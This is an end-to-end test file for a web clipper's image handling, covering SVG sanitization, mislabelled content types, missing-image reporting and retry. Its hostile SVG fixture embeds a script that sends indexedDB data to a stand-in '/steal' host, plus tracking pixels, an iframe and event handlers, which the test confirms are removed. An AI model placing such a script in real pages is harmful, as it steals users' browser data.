import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appErrors, openBrowser } from './browser';
import type { TestBrowser } from './browser';
import { solidPng } from './fixture-server';
import { AppPage } from './pages/AppPage';
import { ClipFlow } from './pages/ClipFlow';
import { ImagesNotice } from './pages/ImagesNotice';
import { startWebApp } from './server';
import type { RunningApp } from './server';

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="30" height="30" onload="fetch('/').then(r=>r.text())">
<script>indexedDB.databases().then((d) => fetch('http://127.0.0.1:9/steal?' + JSON.stringify(d)))</script>
<style>rect { fill: url(http://127.0.0.1:9/track.svg#p) }</style>
<rect width="30" height="30" fill="#5a5a5a" onclick="alert(1)"/>
<circle r="5" style="fill: url('http://127.0.0.1:9/pixel.png')"/>
<foreignObject width="30" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1:9/"></iframe></foreignObject>
<image xlink:href="http://127.0.0.1:9/pixel.png" width="1" height="1"/>
</svg>`;
const PAGE_AS_PNG = '<!doctype html><html><body><script>fetch("/")</script></body></html>';
const words = 'The arms control negotiators met again in Geneva this week, and the delegations said the talks on verification had made real progress before the summit.';
const TINY_PNG = `data:image/png;base64,${solidPng(4, 4).toString('base64')}`;
const SCRIPTED_SVG = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>').toString('base64')}`;

function article(title: string, images: string[]): string {
  const figures = images.map((src, n) => `<figure><img src="${src}" alt="Figure ${n + 1}"><figcaption>Figure ${n + 1}</figcaption></figure>`).join('');
  // Each article's own words: the same text twice would be one article to the library.
  const own = `${words} This is the report titled ${title}.`;
  return `<!doctype html><html><head><title>${title}</title></head><body><article><h1>${title}</h1><p>${own}</p>${figures}<p>${own}</p><p>${words}</p></article></body></html>`;
}

/** A site whose images misbehave on purpose: sent under a false type, missing until told otherwise, or never answered. */
async function serveSite() {
  const state = { missing: true, hang: true, requests: [] as string[] };
  const held: (() => void)[] = [];
  const pages: Record<string, string> = {};
  const server = createServer((req, res) => {
    const path = req.url ?? '';
    state.requests.push(path);
    const send = (type: string, body: string | Buffer) => {
      res.writeHead(200, { 'Content-Type': type });
      res.end(body);
    };
    if (pages[path]) return send('text/html; charset=utf-8', pages[path]);
    if (path === '/img/hostile.svg') return send('image/svg+xml', HOSTILE_SVG);
    if (path === '/img/png-sent-as-html') return send('text/html', solidPng(12, 8));
    if (path === '/img/page-sent-as-png') return send('image/png', PAGE_AS_PNG);
    if (path.startsWith('/missing/') && !state.missing) return send('image/png', solidPng(10, 10));
    if (path.startsWith('/slow/')) {
      if (!state.hang) return send('image/png', solidPng(10, 10));
      return void held.push(() => send('image/png', solidPng(10, 10)));
    }
    res.writeHead(404, { 'Content-Type': 'text/plain' });
    res.end('not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    state,
    pages,
    close: () => {
      held.splice(0).forEach((answer) => answer());
      server.closeAllConnections();
      return new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

describe('a clip’s images, as a user meets them', () => {
  let app: RunningApp;
  let site: Awaited<ReturnType<typeof serveSite>>;
  let browser: TestBrowser;
  let quire: AppPage;
  let flow: ClipFlow;
  let images: ImagesNotice;

  beforeAll(async () => {
    site = await serveSite();
    // The site is on 127.0.0.1, which the fetcher refuses; the test-only variable lets it play a public one.
    app = await startWebApp(47922, { QUIRE_TEST_ONLY_FETCH_ALLOW: new URL(site.origin).host });
    browser = await openBrowser();
    quire = new AppPage(browser.page, app.url);
    flow = new ClipFlow(browser.page);
    images = new ImagesNotice(browser.page);
  });

  afterAll(async () => {
    await browser?.close();
    await site?.close();
    await app?.stop();
  });

  it('stores a hostile SVG only sanitized, a PNG sent as text/html as a PNG, and refuses a page sent as image/png', async () => {
    const o = site.origin;
    site.pages['/hostile'] = article('Images that lie about themselves', [`${o}/img/hostile.svg`, `${o}/img/png-sent-as-html`, `${o}/img/page-sent-as-png`]);
    await quire.open('#/library');
    await flow.clip(`${o}/hostile`);
    await flow.waitForReader();
    await images.notice.waitFor();

    const assets = await images.storedAssets();
    const svg = assets.find((a) => a.sourceUrl.endsWith('/img/hostile.svg'))!;
    expect(svg.mimeType).toBe('image/svg+xml');
    expect(svg.type).toBe('image/svg+xml');
    expect(svg.text).toContain('<rect');
    expect(svg.text).not.toMatch(/script|onload|onclick|foreignObject|iframe|127\.0\.0\.1:9|href/i);
    const png = assets.find((a) => a.sourceUrl.endsWith('/img/png-sent-as-html'))!;
    expect([png.mimeType, png.type]).toEqual(['image/png', 'image/png']);
    const page = assets.find((a) => a.sourceUrl.endsWith('/img/page-sent-as-png'))!;
    expect(page).toMatchObject({ type: null, error: 'Not an image (sent as image/png).' });

    // The reader says which one is missing; the others show from their stored blobs.
    expect(await images.notice.innerText()).toMatch(/1 image could not be downloaded/);
    await images.notice.getByText('Which').click();
    expect(await images.notice.getByRole('listitem').allInnerTexts()).toEqual([`${o}/img/page-sent-as-png — Not an image (sent as image/png).`]);
    const shown = await flow.readerFrame().locator('img').evaluateAll((imgs) => (imgs as HTMLImageElement[]).map((img) => img.src.slice(0, 5)));
    expect(shown).toEqual(['blob:', 'blob:']);
    expect(site.state.requests.some((path) => path.includes('steal') || path.includes('track') || path.includes('pixel'))).toBe(false);
    await quire.screenshot('images-hostile');
  });

  it('a file’s inline data: PNG shows from its asset, a scripted data: SVG does not; its row and the reader say which images failed, and Retry gets them', async () => {
    const o = site.origin;
    const html = article('Inline and missing images', [TINY_PNG, SCRIPTED_SVG, `${o}/missing/1.png`, `${o}/missing/2.png`, `${o}/missing/3.png`]);
    await quire.open('#/library');
    await flow.importFiles([{ name: 'inline.html', mimeType: 'text/html', buffer: Buffer.from(html) }]);
    await flow.importDialog.getByRole('button', { name: 'Done' }).waitFor();
    const row = await flow.importDialog.locator('.import-results li').first().innerText();
    expect(row).toMatch(/inline\.html\s+Clipped[\s\S]*3 images could not be downloaded/);
    await flow.importDialog.getByRole('link', { name: 'Inline and missing images' }).click();
    await flow.waitForReader();

    await images.notice.waitFor();
    await images.notice.getByText('Which').click();
    expect(await images.notice.getByRole('listitem').allInnerTexts()).toEqual([1, 2, 3].map((n) => `${o}/missing/${n}.png — The image answered 404.`));
    const frame = flow.readerFrame();
    await frame.locator('img').first().waitFor();
    const before = await frame.locator('img').evaluateAll((imgs) => (imgs as HTMLImageElement[]).map((img) => img.src.slice(0, 5)));
    expect(before).toEqual(['blob:']);
    const stored = await images.storedAssets();
    expect(stored.filter((a) => a.sourceUrl.startsWith('data:')).map((a) => [a.mimeType, a.type])).toEqual([['image/png', 'image/png']]);

    site.state.missing = false;
    await images.retry.click();
    await images.notice.getByRole('status').filter({ hasText: 'Every image is saved now.' }).waitFor();
    await frame.locator('img').nth(3).waitFor();
    const after = await frame.locator('img').evaluateAll((imgs) =>
      Promise.all((imgs as HTMLImageElement[]).map(async (img) => (await img.decode().then(() => true, () => false)) && img.src.startsWith('blob:'))),
    );
    expect(after).toEqual([true, true, true, true]);
    await quire.screenshot('images-retried');
  });

  it('a clip cut off while its images downloaded says so, and importing the file again completes it', async () => {
    const o = site.origin;
    const html = article('Cut off while saving', [`${o}/slow/a.png`, `${o}/slow/b.png`]);
    const file = { name: 'cut-off.html', mimeType: 'text/html', buffer: Buffer.from(html) };
    await quire.open('#/library');
    const seen = site.state.requests.length;
    await flow.importFiles([file]);
    // The downloads have started and hang: the window dies now, as on a crash or a quit.
    await expect.poll(() => site.state.requests.slice(seen).filter((path) => path.startsWith('/slow/')).length).toBe(2);
    await browser.page.close();
    browser.page = await browser.context.newPage();
    quire = new AppPage(browser.page, app.url);
    flow = new ClipFlow(browser.page);
    images = new ImagesNotice(browser.page);
    site.state.hang = false;

    await quire.open('#/library');
    await browser.page.getByRole('link', { name: 'Cut off while saving' }).first().click();
    await images.notice.waitFor();
    expect(await images.notice.innerText()).toMatch(/Images not saved: 2 images could not be downloaded/);

    await flow.importFiles([file]);
    await flow.importDialog.getByRole('button', { name: 'Done' }).waitFor();
    const row = await flow.importDialog.locator('.import-results li').first().innerText();
    expect(row).toMatch(/cut-off\.html\s+Already in library[\s\S]*its 2 missing images were saved/);
    await flow.importDialog.getByRole('button', { name: 'Done' }).click();
    await images.notice.waitFor({ state: 'detached' });
    expect(appErrors(browser.errors)).toEqual([]);
  });
});
